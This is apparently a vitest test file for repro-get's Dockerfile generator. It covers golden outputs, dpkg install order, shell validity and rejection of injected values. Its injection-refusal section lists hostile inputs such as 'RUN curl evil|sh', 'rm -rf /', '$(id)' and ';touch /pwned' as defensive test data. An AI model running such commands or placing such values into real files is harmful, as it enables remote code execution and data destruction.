/**
 * `repro-get dockerfile` without a builder: golden files for every mode (UPDATE_GOLDEN=1 rewrites
 * them), determinism, the dpkg batch order, shell syntax of every RUN step (sh -n), and refusal of
 * every value that could inject into the Dockerfile or its shell. Real builds: dockerfile-build.test.ts.
 */
import { spawnSync } from 'node:child_process';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { renderDockerfile, type DockerfileMode, type DockerfileOptions } from '../../src/app/dockerfile.js';
import { dockerfileFromFiles } from '../../src/app/dockerfile/run.js';
import type { Lockfile } from '../../src/core/lockfile/schema.js';
import { serializeLockfile } from '../../src/core/lockfile/write.js';
import { aptDockerfile, dockerInstallBatches } from '../../src/families/apt/dockerfile.js';
import { hex, lock as makeLock, pkg } from '../support/locks.js';

const GOLDEN = fileURLToPath(new URL('./golden/', import.meta.url));
const DIGEST = `@sha256:${hex('d')}`;

/** A package whose filename (and so its URL) is not the helper's default one. */
const at = (filename: string) => ({ filename, url: `https://snapshot.example/archive/debian/20250520T000000Z/${filename}` });

/** Depends chain, a cycle, arch: all, a foreign architecture, an epoch, a base-system dependency. */
function sampleLock(): Lockfile {
  return makeLock([
    pkg('libfoo1', '1.0-1', { sha256: hex('1'), depends: ['libc6'] }),
    pkg('libfoo1', '1.0-1', { arch: 'i386', sha256: hex('2'), ...at('pool/main/libf/libfoo/libfoo1_1.0-1_i386.deb'), depends: ['libc6'] }),
    pkg('foo-data', '1:2.0-1', { arch: 'all', sha256: hex('3'), ...at('pool/main/f/foo/foo-data_2.0-1_all.deb') }),
    pkg('foo', '1:2.0-1', { sha256: hex('4'), requested: true, depends: ['foo-data', 'libfoo1'] }),
    pkg('cyc-a', '1.0-1', { sha256: hex('5'), depends: ['cyc-b', 'foo'] }),
    pkg('cyc-b', '1.0-1', { sha256: hex('6'), depends: ['cyc-a'] }),
    pkg('bar', '3.0~rc1+dfsg-2', { sha256: hex('7'), requested: true, depends: ['cyc-a', 'libfoo1:i386'] }),
  ], { architectures: ['amd64', 'i386'] });
}

/** Legal but unusual: %-escapes, ~ + @ = : in file names and URLs, query strings. */
function oddLock(): Lockfile {
  const url = (f: string) => `https://snapshot.example/archive/debian/20250520T000000Z/${f}?sig=a%2Bb&x=(1);y=*`;
  const f1 = 'pool/main/o/odd/odd_1%3a2.0~rc1+b1_amd64.deb';
  const f2 = 'pool/main/o/odd/odd-extra_1.0@x=y_all.deb';
  return makeLock([
    pkg('odd', '1:2.0~rc1+b1', { sha256: hex('8'), filename: f1, url: url(f1), requested: true, depends: ['odd-extra'] }),
    pkg('odd-extra', '1.0', { arch: 'all', sha256: hex('9'), filename: f2, url: url(f2) }),
  ]);
}

const opts = (mode: DockerfileMode, o: Partial<DockerfileOptions> = {}): DockerfileOptions => ({
  mode,
  base: `debian:bookworm${DIGEST}`,
  nodeImage: `node:22-bookworm-slim${DIGEST}`,
  reproGetVersion: '0.1.0',
  lockInContext: 'repro-get.lock.yaml',
  lockFile: 'repro-get.lock.yaml',
  hook: aptDockerfile,
  ...o,
});

async function golden(name: string, text: string): Promise<void> {
  const file = join(GOLDEN, name);
  if (process.env.UPDATE_GOLDEN || !existsSync(file)) await writeFile(file, text);
  expect(text).toBe(await readFile(file, 'utf8'));
}

/** The shell of every RUN step (continuations joined, --mount flags dropped). */
function runScripts(dockerfile: string): string[] {
  return dockerfile
    .replace(/\\\n/g, '')
    .split('\n')
    .filter((l) => l.startsWith('RUN '))
    .map((l) => l.slice(4).replace(/^(\s*--mount=\S+)+\s*/, ''));
}

describe('repro-get dockerfile: golden files', () => {
  for (const mode of ['fetch-stage', 'install', 'add-checksum'] as const) {
    it(`${mode}: sample lock`, async () => {
      const r = renderDockerfile(sampleLock(), opts(mode));
      expect(r.warnings).toEqual([]);
      await golden(`dockerfile-${mode}.Dockerfile`, r.text);
    });
  }

  it('fetch-stage and add-checksum: odd but legal characters are quoted, never refused', async () => {
    await golden('dockerfile-odd-fetch-stage.Dockerfile', renderDockerfile(oddLock(), opts('fetch-stage')).text);
    await golden('dockerfile-odd-add-checksum.Dockerfile', renderDockerfile(oddLock(), opts('add-checksum')).text);
  });

  it('is deterministic: the same lock in any package order gives the same bytes', () => {
    const a = renderDockerfile(sampleLock(), opts('fetch-stage')).text;
    const shuffled = sampleLock();
    shuffled.packages.reverse();
    expect(renderDockerfile(shuffled, opts('fetch-stage')).text).toBe(a);
    expect(renderDockerfile(sampleLock(), opts('fetch-stage')).text).toBe(a);
  });

  it('every RUN step is valid sh', () => {
    for (const mode of ['fetch-stage', 'install', 'add-checksum'] as const) {
      for (const l of [sampleLock(), oddLock()]) {
        for (const script of runScripts(renderDockerfile(l, opts(mode)).text)) {
          const r = spawnSync('sh', ['-n', '-c', script], { encoding: 'utf8' });
          expect(r.status, `${mode}: ${r.stderr}\n${script}`).toBe(0);
        }
      }
    }
  });
});

describe('repro-get dockerfile: content', () => {
  it('SOURCE_DATE_EPOCH is the snapshot, in every stage that runs something', () => {
    for (const mode of ['fetch-stage', 'install', 'add-checksum'] as const) {
      const t = renderDockerfile(sampleLock(), opts(mode)).text;
      expect(t).toContain('ARG SOURCE_DATE_EPOCH=1747699200'); // 2025-05-20T00:00:00Z
      expect(t.split('\nFROM ').length - 1).toBe(t.split('\nARG SOURCE_DATE_EPOCH=').length - 1 + (mode === 'add-checksum' ? 1 : 0));
    }
  });

  it('pins the base and Node.js images given by digest; warns when they are not', () => {
    const pinned = renderDockerfile(sampleLock(), opts('fetch-stage'));
    expect(pinned.text).toContain(`\nFROM debian:bookworm${DIGEST}\n`);
    expect(pinned.text).toContain(`FROM --platform=$BUILDPLATFORM node:22-bookworm-slim${DIGEST} AS repro-get-fetch`);
    const loose = renderDockerfile(sampleLock(), opts('fetch-stage', { base: 'debian:bookworm', nodeImage: undefined }));
    expect(loose.warnings.join('\n')).toMatch(/base image debian:bookworm is not pinned by digest/);
    expect(loose.warnings.join('\n')).toMatch(/Node.js image node:22-bookworm-slim is not pinned/);
    const guessed = renderDockerfile(sampleLock(), opts('install', { base: undefined }));
    expect(guessed.text).toContain('\nFROM debian:bookworm\n');
    expect(guessed.warnings.join('\n')).toMatch(/guessed from the lock's distro/);
  });

  it('add-checksum starts with the syntax directive and ADDs each file once, with its digest', () => {
    const l = sampleLock();
    l.packages.push({ ...l.packages[0] }); // the same file twice (e.g. from two sources)
    l.packages[l.packages.length - 1].name = 'libfoo1-alias';
    const t = renderDockerfile(l, opts('add-checksum')).text;
    expect(t.startsWith('# syntax=docker/dockerfile:1.6\n')).toBe(true);
    expect(t.match(/^ADD /gm)).toHaveLength(7);
    expect(t).toContain(`ADD --checksum=sha256:${hex('4')} https://snapshot.example/`);
  });

  it('fetch-stage installs only with the image\'s own tools: no Node.js, npx or apt-get in the target stage', () => {
    const t = renderDockerfile(sampleLock(), opts('fetch-stage')).text;
    const target = t.slice(t.lastIndexOf('\nFROM '));
    expect(target).not.toMatch(/npx|node|apt-get|apt install/);
    expect(target).toMatch(/sha256sum -c -/);
    expect(target).toMatch(/dpkg --force-confdef --force-confold --install/);
  });

  it('cleanup leaves no lists, caches or logs, and cannot mask an earlier failure', () => {
    const t = renderDockerfile(sampleLock(), opts('fetch-stage')).text;
    for (const p of ['/var/lib/apt/lists/*', '/var/log/dpkg.log', '/var/log/alternatives.log', '/var/lib/dpkg/*-old', '/var/cache/debconf/*-old', '/var/cache/ldconfig/aux-cache']) {
      expect(t).toContain(p);
    }
    // A trailing `|| true` outside braces would turn every failed step into success.
    for (const script of runScripts(t)) expect(script).not.toMatch(/\|\| true\s*$/);
  });
});

describe('apt: dpkg batches from the lock\'s depends', () => {
  it('puts every package after what it depends on, a cycle in one call, the foreign arch on its own', () => {
    const batches = dockerInstallBatches(sampleLock()).map((b) => b.map((p) => `${p.name}:${p.arch}`));
    expect(batches).toEqual([
      ['foo-data:all', 'libfoo1:amd64', 'libfoo1:i386'],
      ['foo:amd64'],
      ['cyc-a:amd64', 'cyc-b:amd64'],
      ['bar:amd64'],
    ]);
  });

  it('refuses a lock with one package twice for the same architecture', () => {
    const l = sampleLock();
    l.packages.push(pkg('foo', '1:2.1-1', { sha256: hex('e') }));
    expect(() => dockerInstallBatches(l)).toThrow(/foo:amd64 is locked twice/);
  });

  it('adds the foreign architecture before installing', () => {
    const t = renderDockerfile(sampleLock(), opts('fetch-stage')).text;
    expect(t.indexOf('dpkg --add-architecture i386')).toBeGreaterThan(0);
    expect(t.indexOf('dpkg --add-architecture i386')).toBeLessThan(t.indexOf('--install'));
  });
});

describe('repro-get dockerfile: nothing can inject', () => {
  const evil: [string, (l: Lockfile) => void, DockerfileMode?][] = [
    ['name', (l) => void (l.packages[0].name = 'foo;touch /pwned')],
    ['version', (l) => void (l.packages[0].version = '1.0$(id)')],
    ['arch', (l) => void (l.packages[0].arch = 'amd64 --force-all')],
    ['depends', (l) => void (l.packages[0].depends = ['x`id`'])],
    ['distro (newline into a comment)', (l) => void (l.distro = 'debian:bookworm\nRUN curl evil|sh')],
    ['architectures', (l) => void (l.architectures = ['amd64\n'])],
    ['filename with a quote', (l) => void (l.packages[0].filename = "pool/x/it's.deb")],
    ['filename with a space', (l) => void (l.packages[0].filename = 'pool/x/a b.deb')],
    ['filename with $', (l) => void (l.packages[0].filename = 'pool/x/$HOME.deb')],
    ['filename with a newline', (l) => void (l.packages[0].filename = 'pool/x/a\nRUN id.deb')],
    ['filename that reads as an option', (l) => void (l.packages[0].filename = 'pool/x/--admindir=x.deb')],
    ['url with $ (ADD expands it)', (l) => void (l.packages[0].url = 'https://x.example/$HOME.deb'), 'add-checksum'],
    ['url with a quote', (l) => void (l.packages[0].url = 'https://x.example/"a.deb'), 'add-checksum'],
    ['url with a fragment', (l) => void (l.packages[0].url = 'https://x.example/a.deb#ref'), 'add-checksum'],
    ['url with a backslash', (l) => void (l.packages[0].url = 'https://x.example/a\\.deb'), 'add-checksum'],
  ];
  for (const [what, spoil, mode] of evil) {
    it(`refuses a lock whose ${what} could inject`, () => {
      const l = sampleLock();
      spoil(l);
      expect(() => renderDockerfile(l, opts(mode ?? 'fetch-stage'))).toThrow(/cannot be written into a Dockerfile|not allowed|read as an option/);
    });
  }

  const badOpts: [string, Partial<DockerfileOptions>][] = [
    ['--base', { base: 'debian:bookworm; rm -rf /' }],
    ['--base with a newline', { base: 'debian\nRUN id' }],
    ['--node-image', { nodeImage: 'node:22 AS x\nRUN id' }],
    ['--repro-get-version range', { reproGetVersion: '^0.1.0' }],
    ['--repro-get-version injection', { reproGetVersion: '0.1.0 && id' }],
    ['lock path with ..', { lockInContext: '../repro-get.lock.yaml' }],
    ['lock path with a space', { lockInContext: 'my lock.yaml' }],
    ['lock path with a quote', { lockInContext: 'a"b.yaml' }],
  ];
  for (const [what, o] of badOpts) {
    it(`refuses ${what}`, () => {
      expect(() => renderDockerfile(sampleLock(), opts('fetch-stage', o))).toThrow();
    });
  }

  it('a URL is only checked where it is written (add-checksum)', () => {
    const l = sampleLock();
    l.packages[0].url = 'https://x.example/$weird.deb';
    expect(() => renderDockerfile(l, opts('fetch-stage'))).not.toThrow();
  });

  it('without Dockerfile lines for a family, only --mode install works (with a warning)', () => {
    const l = sampleLock();
    expect(() => renderDockerfile(l, opts('fetch-stage', { hook: undefined }))).toThrow(/does not support apt locks yet/);
    expect(renderDockerfile(l, opts('install', { hook: undefined })).warnings.join('\n')).toMatch(/no cleanup lines/);
  });
});

describe('repro-get dockerfile: files', () => {
  async function inDir(spec: string | undefined, fn: (dir: string) => Promise<void>): Promise<void> {
    const dir = await mkdtemp(join(tmpdir(), 'repro-get-dockerfile-'));
    try {
      await writeFile(join(dir, 'repro-get.lock.yaml'), serializeLockfile(sampleLock()));
      if (spec) await writeFile(join(dir, 'repro-get.yaml'), spec);
      await fn(dir);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  }
  const spec = (base: string) => `distro: debian:bookworm\nbaseImage: ${base}\npackages: [foo]\n`;

  it('takes baseImage from the spec beside the lock; --base wins over it', async () => {
    await inDir(spec(`registry.example:5000/debian:bookworm${DIGEST}`), async (dir) => {
      const r = await dockerfileFromFiles({ lockFile: join(dir, 'repro-get.lock.yaml'), mode: 'fetch-stage', nodeImage: `node:22${DIGEST}`, context: dir });
      expect(r.text).toContain(`\nFROM registry.example:5000/debian:bookworm${DIGEST}\n`);
      expect(r.warnings).toEqual([]);
      expect(r.text).toContain('--mount=type=bind,source=repro-get.lock.yaml,target=/src/repro-get.lock.yaml');
      const o = await dockerfileFromFiles({ lockFile: join(dir, 'repro-get.lock.yaml'), mode: 'install', base: `debian:12${DIGEST}`, context: dir });
      expect(o.text).toContain(`\nFROM debian:12${DIGEST}\n`);
    });
  });

  it('warns when the lock is outside the build context and names it by its base name', async () => {
    await inDir(undefined, async (dir) => {
      const r = await dockerfileFromFiles({ lockFile: join(dir, 'repro-get.lock.yaml'), mode: 'install', context: join(dir, 'sub') });
      expect(r.warnings.join('\n')).toMatch(/not inside the build context/);
      expect(r.text).toContain('install -f /mnt/repro-get.lock.yaml');
    });
  });

  it('uses the lock path relative to the build context', async () => {
    await inDir(undefined, async (dir) => {
      const r = await dockerfileFromFiles({ lockFile: join(dir, 'repro-get.lock.yaml'), mode: 'fetch-stage', context: join(dir, '..') });
      expect(r.text).toContain(`source=${dir.split('/').pop()}/repro-get.lock.yaml`);
    });
  });
});

// Keep the golden inputs honest: they are valid lockfiles.
it('the sample locks pass the lockfile schema', async () => {
  const { lockfileSchema } = await import('../../src/core/lockfile/schema.js');
  for (const l of [sampleLock(), oddLock()]) expect(() => lockfileSchema.parse(l)).not.toThrow();
});
